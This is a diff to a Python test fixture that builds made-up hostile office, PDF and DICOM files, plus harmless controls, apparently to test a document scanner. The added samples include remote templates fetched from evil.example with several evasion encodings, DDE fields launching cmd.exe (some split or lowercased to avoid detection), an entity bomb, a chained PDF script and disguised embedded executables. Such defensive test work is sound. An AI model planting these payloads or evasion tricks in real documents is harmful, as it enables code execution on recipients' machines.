@@ -7,13 +7,14 @@ import io
 import stat
 import struct
 import sys
+import warnings
 import zipfile
 import zlib
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass, field
 from pathlib import Path
 
-from tests.records.made_up import archive, dicom, docx, odt, ole, pdf, picture, png, stream
+from tests.records.made_up import archive, dicom, docx, odt, ole, pdf, picture, png, relations, stream
 
 EXE = b"MZ\x90\x00" + bytes(60) + b"PE\x00\x00" + bytes(400)
 ELF = b"\x7fELF\x02\x01\x01" + bytes(400)
@@ -148,6 +149,15 @@ def _script_in_object_stream() -> bytes:
 _KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 _EXTERNAL = f'Id="r9" Type="{_KINDS}/{{}}" Target="http://evil.example/x" TargetMode="External"/>'
 _TEMPLATE, _OBJECT = ("<Relationship " + _EXTERNAL.format(kind) for kind in ("attachedTemplate", "oleObject"))
+_ELSEWHERE = relations(_TEMPLATE)
+_CAPITALS = {"word/_rels/document.xml.RELS": _ELSEWHERE}
+_SIMPLE_FIELDS = b'<w:document><w:fldSimple w:instr="PAGE"/><w:fldSimple w:instr="DdeAuto x"/></w:document>'
+_DDE_LINK = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
+_DDE_FORMULA = b'<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)"/>'
+_SPELLED = _TEMPLATE.replace('"External"', '"&#69;xternal"')
+_LIKE_A_LINK = _TEMPLATE.replace("http://evil.example/x", "http://evil.example/hyperlink")
+_PARCEL_BY_KIND = f'<Relationship Id="r9" Type="{_KINDS}/oleObject" Target="embeddings/picture.bin"/>'
+_MACROS_BY_KIND = '<Types><Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
 _MACRO_TYPES = '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled+xml"/></Types>'
 _LAUGHS = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><w:document>&b;</w:document>'
 
@@ -156,6 +166,36 @@ _LONG_SCRIPT = "<< /S /JavaScript /JS 10 0 R >>"
 _TWICE = "/Filter [/FlateDecode /FlateDecode]"
 _GIF = b"GIF89a\xff\xff\xff\xff\x80\x00\x00" + bytes(6) + b",\x00\x00\x00\x00\xff\xff\xff\xff\x00\x02\x02D\x01\x00;"
 _scripted = _action("JavaScript", "/JS (1)")
+
+
+def _wide(part: bytes) -> bytes:
+    return part.decode().replace('"1.0"', '"1.0" encoding="UTF-16"').encode("utf-16")
+
+
+def _field(*pieces: str, tag: str = "instrText") -> dict[str, bytes]:
+    """A part of a text with a field whose instruction comes in these pieces."""
+    runs = "".join(f"<w:r><w:{tag}>{piece}</w:{tag}></w:r>" for piece in pieces)
+    return {
+        "word/footer1.xml": f'<w:ftr><w:fldChar w:fldCharType="begin"/>{runs}<w:fldChar w:fldCharType="end"/></w:ftr>'.encode()
+    }
+
+
+def _twice() -> bytes:
+    """The same part two times, the harmless one last."""
+    parts = [("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w:document/>")]
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")
+        return archive(
+            [*parts, ("word/_rels/document.xml.rels", _ELSEWHERE), ("word/_rels/document.xml.rels", relations())]
+        )
+
+
+def _chain(length: int) -> bytes:
+    """An action that is followed by others, each written within the one before; the last is a script."""
+    action = _SCRIPT
+    for _ in range(length):
+        action = f"<< /S /URI /URI (https://example.org) /Next {action} >>"
+    return pdf(action, root="/OpenAction 10 0 R")
 
 
 def _packed(megabytes: int, times: int = 1) -> bytes:
@@ -198,6 +238,7 @@ CORPUS: tuple[Hostile, ...] = (
     _one("goes to an attachment.pdf", _action("GoToE", "/T << /R /C >>"), "attachments"),
     _one("carries a program.pdf", lambda: pdf(stream(EXE, "/Type /EmbeddedFile"), "<< /Type /Filespec /F (a.exe) /EF << /F 10 0 R >> >>",
                                                root="/Names << /EmbeddedFiles << /Names [(a.exe) 11 0 R] >> >>"), "attachments"),
+    _one("script at the end of a long chain.pdf", lambda: _chain(40), "script"),
     _one("dynamic form.pdf", lambda: pdf(stream(b"<xdp/>"), root="/AcroForm << /XFA 10 0 R /Fields [] >>"), "script"),
     _one("locked.pdf", _locked_pdf, "password"),
     _one("cut short.pdf", lambda: pdf()[:200], "unreadable"),
@@ -231,6 +272,23 @@ CORPUS: tuple[Hostile, ...] = (
     _one("parcel.docx", lambda: docx({"word/embeddings/oleObject1.bin": EXE}), "attachments"),
     _one("billion laughs.docx", lambda: docx({"word/document.xml2.xml": _LAUGHS}), "bomb"),
     _one("runs a command.docx", lambda: docx({"word/footer1.xml": b"<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>"}), "launch"),
+    _one("template like a link.docx", lambda: docx(relation=_LIKE_A_LINK), "outside_links"),
+    _one("template in wide letters.docx", lambda: docx({"word/_rels/document.xml.rels": _wide(_ELSEWHERE)}), "outside_links"),
+    _one("template in capitals.docx", lambda: docx(_CAPITALS), "outside_links"),
+    _one("template spelled otherwise.docx", lambda: docx(relation=_SPELLED), "outside_links"),
+    _one("template in one of two parts.docx", _twice, "outside_links"),
+    _one("parcel by another name.docx", lambda: docx({"word/embeddings/picture.bin": EXE}, relation=_PARCEL_BY_KIND), "attachments"),
+    _one("macros by another name.docx", lambda: docx({"word/x.bin": b"x"}, types=_MACROS_BY_KIND), "macros"),
+    _one("laughs in wide letters.docx", lambda: docx({"word/a.xml": _wide(_LAUGHS)}), "bomb"),
+    _one("runs a command in small letters.docx", lambda: docx(_field("ddeauto c:\\cmd.exe")), "launch"),
+    _one("runs a command when updated.docx", lambda: docx(_field(" DDE c:\\cmd.exe")), "launch"),
+    _one("runs a command in pieces.docx", lambda: docx(_field("DD", "EAU", "TO c:\\cmd.exe")), "launch"),
+    _one("runs a command after a page number.docx", lambda: docx({"word/document.xml": _SIMPLE_FIELDS}), "launch"),
+    _one("runs a command in another part.docx", lambda: docx({"word/text.dat": _field("DDEAUTO x")["word/footer1.xml"]}), "launch"),
+    _one("runs a command.xlsx", lambda: docx({"xl/externalLinks/externalLink1.xml": _DDE_LINK}), "launch"),
+    _one("runs a command.ods", lambda: odt({"content.xml": _DDE_FORMULA}), "launch"),
+    _one("runs a command.doc", lambda: ole({"WordDocument": b"\xec\xa5" + bytes(30) + b"\x13 DDEAUTO cmd.exe \x14\x15"}), "launch"),
+    _one("runs a command in pieces.rtf", lambda: rb"{\rtf1{\field{\*\fldinst {\b D}{DE\'41uto} c:\\cmd.exe}}}", "launch"),
     _one("macros.odt", lambda: odt({"Basic/Standard/Module1.xml": b"<x/>"}), "macros"),
     _one("locked.odt", lambda: odt({"META-INF/manifest.xml": b"<m><manifest:encryption-data/></m>"}), "password"),
     _one("macros.doc", lambda: ole({"WordDocument": b"\xec\xa5" + bytes(30), "_VBA_PROJECT": b"x"}), "macros"),
@@ -264,7 +322,7 @@ CORPUS: tuple[Hostile, ...] = (
     _one("packed.rar", lambda: b"Rar!\x1a\x07\x00" + bytes(90), "other_archive"),
     _one("packed.7z", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(90), "other_archive"),
     _one("packed.gz", lambda: b"\x1f\x8b\x08" + bytes(90), "other_archive"),
-    _one("cd.iso", lambda: bytes(0x8001) + b"CD001" + bytes(90), "other_archive", "unknown_type"),
+    _one("cd.iso", lambda: bytes(0x8001) + b"CD001" + bytes(90), "other_archive", item="imaging"),
     # DICOM
     _one("IMG with a Windows program", lambda: dicom(preamble=EXE[:128]), "dicom_program", item="imaging"),
     _one("IMG with a Linux program", lambda: dicom(preamble=ELF[:128]), "dicom_program", item="imaging"),
@@ -290,8 +348,18 @@ def harmless() -> Iterator[tuple[str, bytes, str]]:
     ):
         yield name, picture(kind), "document"
     yield "scan.png", png(), "document"
+    yield (
+        "mark in the pixels.png",
+        png(16, 4, pixels=(b"\x00<html\x8f\x02<?php\x03\xfe\x7f<").ljust(17, b"\x00") * 4),
+        "document",
+    )
     yield "letter.docx", docx(relation="<Relationship " + _EXTERNAL.format("hyperlink")), "document"
-    yield "letter.odt", odt(), "document"
+    drawings = {
+        "word/media/a.svg": b'<!DOCTYPE svg PUBLIC "a" "b"><svg/>',
+        "word/drawings/vmlDrawing1.vml": b"<xml><div>a<br></div></xml>",
+    }
+    yield "with drawings and fields.docx", docx(drawings | _field("PAGE REF DDE_LINK1")), "document"
+    yield "letter.odt", odt({"Configurations2/accelerator/current.xml": b""}), "document"
     yield "letter.doc", ole({"WordDocument": b"\xec\xa5" + bytes(30), "1Table": b"x"}), "document"
     yield "table.xls", _xls(struct.pack("<HHIBB", 0x85, 8, 0, 0, 0) + b"\x00\x00"), "document"
     yield "letter.rtf", b"{\\rtf1 Made up}", "document"
